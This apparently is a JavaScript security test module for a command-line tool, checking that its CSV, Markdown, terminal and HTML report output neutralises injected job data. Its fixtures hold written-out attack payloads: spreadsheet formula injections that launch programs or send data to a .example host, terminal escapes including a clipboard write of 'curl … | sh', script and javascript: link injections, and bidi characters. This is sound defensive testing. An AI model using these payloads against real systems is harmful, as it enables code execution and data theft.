// Class 8: output injection. Text from job folders (task and trial names, agent and model
// names, job folder names, error messages) carrying spreadsheet formulas, terminal escape
// sequences (ESC, OSC, 8-bit C1), Markdown that breaks out of its table cell (a backslash
// before a pipe, raw HTML, javascript: links) and bidi / invisible characters, read back from
// `fak ingest --format csv|md`, `fak ingest` and `fak compare` for people, and the HTML
// report's content security policy.

import { readFileSync } from "node:fs";
import { join } from "node:path";
import { brief } from "../lib/fak.mjs";
import { pipFailure, writeHarborJob } from "../lib/jobs.mjs";

const FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"];

function formulaPayloads(rng) {
  return FORMULA_LEADS.map((lead) => {
    const marker = `${rng.name(6)}${rng.name(6)}`;
    const body = {
      "=": `=HYPERLINK("https://${marker}.example/?d="&A2,"open report")`,
      "+": `+cmd|' /C calc ${marker}'!A0`,
      "-": `-2+3+cmd|' /C notepad ${marker}'!A0`,
      "@": `@SUM(1+1)*cmd|' /C calc ${marker}'!A0`,
      "\t": `\t=1+1+0*LEN("${marker}")`,
      "\r": `\r=1+1+0*LEN("${marker}")`,
    }[lead];
    return { lead, marker, body };
  });
}

function escapePayloads(rng) {
  const m = () => `${rng.name(5)}${rng.name(5)}`;
  const b64 = (t) => Buffer.from(t).toString("base64");
  return [
    {
      what: "OSC 52 (clipboard write)",
      raw: "\u001b]52;",
      text: `\u001b]52;c;${b64(`curl ${m()}.example | sh`)}\u0007`,
    },
    {
      what: "CSI clear screen",
      raw: "\u001b[2J",
      text: `\u001b[2J\u001b[Hall tests passed ${m()}`,
    },
    {
      what: "OSC 8 hyperlink",
      raw: "\u001b]8;",
      text: `\u001b]8;;https://${m()}.example/\u0007docs\u001b]8;;\u0007`,
    },
    { what: "8-bit C1 CSI", raw: "\u009b", text: `\u009b2J\u009b31mok ${m()}` },
    { what: "8-bit C1 OSC", raw: "\u009d", text: `\u009d0;${m()}\u009c` },
  ];
}

const BIDI = [
  ["U+202E", "\u202e"],
  ["U+2066", "\u2066"],
  ["U+2067", "\u2067"],
  ["U+2068", "\u2068"],
  ["U+2069", "\u2069"],
  ["U+200B", "\u200b"],
];

/** RFC 4180 CSV: rows of cells (quoted cells may hold commas, quotes, CR and LF). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === "") quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else if (c === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell !== "" || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** A GFM table row split as cmark-gfm does: `\` escapes any ASCII punctuation, `|` splits. */
function gfmCells(line) {
  let s = line.trim();
  if (s.startsWith("|")) s = s.slice(1);
  const cells = [];
  let cell = "";
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (c === "\\" && i + 1 < s.length && /[!-/:-@[-`{-~]/.test(s[i + 1])) {
      cell += c + s[i + 1];
      i++;
    } else if (c === "|") {
      cells.push(cell);
      cell = "";
    } else cell += c;
  }
  if (cell.trim() !== "") cells.push(cell);
  return cells;
}

let shared;

async function fixtures(ctx) {
  const { rng, dir, fak } = ctx;
  const formulas = formulaPayloads(rng);
  const escapes = escapePayloads(rng);
  const mdMarker = rng.name(8);
  const md = {
    pipe: `disk a\\|b ${mdMarker} | more`,
    html: `<img src=x onerror=alert('${mdMarker}')>`,
    script: `<script>fetch('https://${mdMarker}.example')</script>`,
    jslink: `[open the log](javascript:alert('${mdMarker}'))`,
    autolink: `<javascript:alert('${mdMarker}')>`,
  };
  const bidi = BIDI.map(([name, ch]) => ({ name, ch, text: `ok${ch}${rng.name(5)}` }));
  const trials = [];
  const add = (task, t) => trials.push({ name: `${rng.name(6)}__${rng.name(5)}`, task, ...t });
  // Formulas as task names, the first cell a spreadsheet reads of the row.
  for (const f of formulas) add(f.body, { reward: 0, commands: [pipFailure(rng)] });
  // Escapes as task names and in error messages.
  for (const e of escapes) {
    add(`build ${e.text}`, {
      exception: { type: "RuntimeError", message: `deploy failed ${e.text}` },
      commands: [{ command: "./deploy.sh", output: "" }],
    });
  }
  // Markdown breakouts in task names and error messages.
  for (const [k, v] of Object.entries(md)) {
    add(`${k} ${v}`, {
      exception: { type: "RuntimeError", message: `step failed: ${v}` },
      commands: [{ command: "./step.sh", output: "" }],
    });
  }
  // Bidi and invisible characters in task names and error messages.
  for (const b of bidi) {
    add(`task ${b.text}`, {
      exception: { type: "RuntimeError", message: `failed ${b.text}` },
      commands: [{ command: "./step.sh", output: "" }],
    });
  }
  const pa = join(dir, "runs-a");
  const pb = join(dir, "runs-b");
  // Job labels (compare's headers): agent and model names, and a job folder's name.
  writeHarborJob(join(pa, `nightly-${rng.name(5)}${escapes[4].text}`), {
    jobName: "a",
    agentName: `bot ${escapes[0].text}${bidi[0].ch}`,
    modelName: `acme/${escapes[1].text}`,
    trials,
  });
  writeHarborJob(join(pb, `nightly-${rng.name(5)}`), {
    jobName: "b",
    agentName: `bot ${escapes[2].text}${bidi[5].ch}`,
    modelName: `acme/${escapes[3].text}`,
    trials: trials.map((t) => ({ ...t, name: `${t.name}b` })),
  });
  const run = (args) => fak(args, { timeoutMs: 120_000 });
  const out = {
    csv: await run(["ingest", "harbor", pa, "--format", "csv"]),
    md: await run(["ingest", "harbor", pa, "--format", "md"]),
    people: await run(["ingest", "harbor", pa]),
    compare: await run(["compare", pa, pb]),
  };
  const html = join(dir, "report.html");
  out.report = await run(["report", pa, "--compare", pb, "--html", html]);
  for (const [k, r] of Object.entries(out)) {
    if (r.code !== 0) throw new Error(`fak (${k}) failed: ${brief(r)}`);
  }
  return { formulas, escapes, md, mdMarker, bidi, out, html: readFileSync(html, "utf8") };
}

const text = (r) => r.stdout + r.stderr;

function escapeCheck(name, which) {
  return {
    name,
    run: async (ctx) => {
      shared ??= fixtures(ctx);
      const f = await shared;
      const t = [which]
        .flat()
        .map((w) => text(f.out[w]))
        .join("\n");
      const bad = f.escapes.filter((e) => t.includes(e.raw));
      return {
        tries: f.escapes.length,
        found: bad.length,
        sample: bad.length ? `raw ${bad.map((e) => e.what).join(", ")} in the output` : "",
      };
    },
  };
}

export default {
  id: 8,
  key: "output-injection",
  title: "output injection",
  checks: [
    {
      name: "ingest --format csv: no cell starts with = + - @ tab or CR",
      run: async (ctx) => {
        shared ??= fixtures(ctx);
        const f = await shared;
        const cells = parseCsv(f.out.csv.stdout).flat();
        const bad = f.formulas.filter((p) =>
          cells.some((c) => c.includes(p.marker) && FORMULA_LEADS.includes(c[0])),
        );
        const lead = (l) => ({ "\t": "tab", "\r": "CR" })[l] ?? l;
        return {
          tries: f.formulas.length,
          found: bad.length,
          sample: bad.length
            ? `cells starting with ${bad.map((p) => lead(p.lead)).join(" ")} written as they are`
            : "",
        };
      },
    },
    escapeCheck("ingest --format csv: no ESC / OSC / C1 sequence from the data", "csv"),
    escapeCheck("compare (headers and tables for people): no ESC / OSC / C1 sequence", "compare"),
    escapeCheck("ingest for people and --format md: no ESC / OSC / C1 sequence", ["people", "md"]),
    {
      name: "ingest --format md: a backslash before a pipe does not split the row",
      run: async (ctx) => {
        shared ??= fixtures(ctx);
        const f = await shared;
        const lines = f.out.md.stdout.split("\n").filter((l) => l.startsWith("|"));
        const width = gfmCells(lines[0] ?? "").length;
        const rows = lines.slice(2).filter((l) => l.includes(f.mdMarker) && l.includes("a\\"));
        const bad = rows.filter((l) => gfmCells(l).length !== width);
        return {
          tries: rows.length,
          found: bad.length,
          sample: bad.length
            ? `a row with \`a\\|b\` splits into ${gfmCells(bad[0]).length} cells (the header has ${width})`
            : "",
        };
      },
    },
    {
      name: "ingest --format md: no raw HTML and no javascript: link from the data",
      run: async (ctx) => {
        shared ??= fixtures(ctx);
        const f = await shared;
        const md = f.out.md.stdout;
        const probes = [
          ["raw <img onerror>", /<img\s/i],
          ["raw <script>", /<script>/i],
          ["a [..](javascript:) link", /(?<!\\)\]\(\s*javascript:/i],
          ["a <javascript:> autolink", /(?<!\\)<javascript:/i],
        ];
        const bad = probes.filter(([, re]) => re.test(md));
        return {
          tries: probes.length,
          found: bad.length,
          sample: bad.length ? `${bad.map(([w]) => w).join(", ")} in the Markdown` : "",
        };
      },
    },
    {
      name: "bidi and invisible characters (U+202E, U+2066-2069, U+200B) in csv, md, ingest and compare output",
      run: async (ctx) => {
        shared ??= fixtures(ctx);
        const f = await shared;
        const outputs = {
          csv: f.out.csv,
          md: f.out.md,
          ingest: f.out.people,
          compare: f.out.compare,
        };
        let tries = 0;
        const bad = [];
        for (const [where, r] of Object.entries(outputs)) {
          for (const b of f.bidi) {
            tries++;
            if (text(r).includes(b.ch)) bad.push(`${b.name} in ${where}`);
          }
        }
        return {
          tries,
          found: bad.length,
          sample: bad.length ? `${bad.length} passed, e.g. ${bad.slice(0, 4).join(", ")}` : "",
        };
      },
    },
    {
      name: "HTML report CSP: scripts by hash or nonce (no 'unsafe-inline'), base-uri 'none'",
      run: async (ctx) => {
        shared ??= fixtures(ctx);
        const f = await shared;
        const meta = /<meta[^>]+http-equiv=["']?content-security-policy["']?[^>]*>/i.exec(
          f.html,
        )?.[0];
        const policy = meta ? (/content=(["'])(.*?)\1/i.exec(meta)?.[2] ?? "") : "";
        const directives = new Map(
          policy
            .split(";")
            .map((d) => d.trim().split(/\s+/))
            .filter((d) => d[0])
            .map(([k, ...v]) => [k.toLowerCase(), v]),
        );
        const script = directives.get("script-src") ?? directives.get("default-src") ?? [];
        const byHash = script.some((v) => /^'(nonce-|sha256-|sha384-|sha512-)/.test(v));
        const problems = [];
        if (!meta) problems.push("no CSP meta tag");
        if (script.includes("'unsafe-inline'") && !byHash)
          problems.push(`script-src ${script.join(" ")}`);
        if (!script.length) problems.push("no script-src");
        if ((directives.get("base-uri") ?? []).join(" ") !== "'none'")
          problems.push(`base-uri ${directives.get("base-uri")?.join(" ") ?? "unset"}`);
        return { tries: 2, found: Math.min(2, problems.length), sample: problems.join("; ") };
      },
    },
  ],
};
